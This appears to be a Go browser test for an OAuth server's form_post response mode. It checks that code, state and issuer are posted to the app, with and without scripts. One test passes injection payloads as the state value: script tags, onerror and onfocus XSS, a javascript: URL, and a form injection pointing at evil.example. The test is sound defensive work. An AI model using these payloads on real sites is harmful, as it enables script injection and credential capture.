package browser_test

import (
	"net/http"
	"net/http/httptest"
	"net/url"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"
)

// receiver is an app that is answered with form_post.
type receiver struct {
	*httptest.Server
	forms chan url.Values
}

func startReceiver(t *testing.T, at addresses) receiver {
	t.Helper()
	r := receiver{forms: make(chan url.Values, 10)}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		if req.Method == http.MethodPost && req.URL.RawQuery == "tenant=1" && req.ParseForm() == nil {
			r.forms <- req.PostForm
		}
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte("<!doctype html><html lang=en><title>App</title><body>Received"))
	}))
	t.Cleanup(r.Close)
	path, err := binary()
	if err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command(path, "client", "add", "--socket", at.socket, "--id", "former", "--name", "Former", "--auth", "none",
		"--redirect", r.URL+"/cb?tenant=1", "--scope", "openid", "--first-party").CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return r
}

func (r receiver) authorize(at addresses, state string) string {
	return at.issuer + "/authorize?" + url.Values{
		"response_type": {"code"}, "response_mode": {"form_post"}, "client_id": {"former"}, "redirect_uri": {r.URL + "/cb?tenant=1"}, "scope": {"openid"},
		"state": {state}, "code_challenge": {strings.Repeat("a", 43)}, "code_challenge_method": {"S256"},
	}.Encode()
}

// received waits for the form that carries the state.
func (r receiver) received(t *testing.T, state string) {
	t.Helper()
	select {
	case form := <-r.forms:
		if form.Get("state") != state || form.Get("code") == "" || form.Get("iss") == "" || len(form) != 3 {
			t.Errorf("state %q: %v", state, form)
		}
	case <-time.After(patience):
		t.Errorf("state %q: no form came", state)
	}
}

// OAU-14: a browser takes code, state and issuer to the app, by itself and by the button;
// whatever a state is made of, it is the value of a field and nothing else.
func TestFormPost_OAU14(t *testing.T) {
	t.Parallel()
	at := startStack(t)
	app := startReceiver(t, at)
	b := newTab(t)
	b.open(app.authorize(at, "first"))
	b.signIn("ann")
	app.received(t, "first")
	for _, state := range []string{
		`"><script>document.title="pwned";fetch("/pwned")</script>`, `</form><form action="https://evil.example/"><input name="x"`, `' onfocus='alert(1)' autofocus='`,
		`"><img src=x onerror=alert(1)>`, "&code=x&iss=y", "javascript:alert(1)", "{{.Base}}", `\u003cscript\u003e`, "ünï ✓ \u2028", " leading and trailing ", "a+b%20c;d",
	} {
		b.pass(app.authorize(at, state))
		app.received(t, state)
	}
	if _, err := chromedp.Call(b.ctx, emulation.SetScriptExecutionDisabled, emulation.SetScriptExecutionDisabledParams{Value: true}); err != nil {
		t.Fatal(err)
	}
	b.open(app.authorize(at, "by hand"))
	select {
	case form := <-app.forms:
		t.Fatalf("sent without a script: %v", form)
	default:
	}
	b.do(chromedp.Click(chromedp.CSS("main form button")))
	app.received(t, "by hand")
	b.mu.Lock()
	defer b.mu.Unlock()
	if len(b.troubles) > 0 {
		t.Errorf("the browser complains: %q", b.troubles)
	}
}
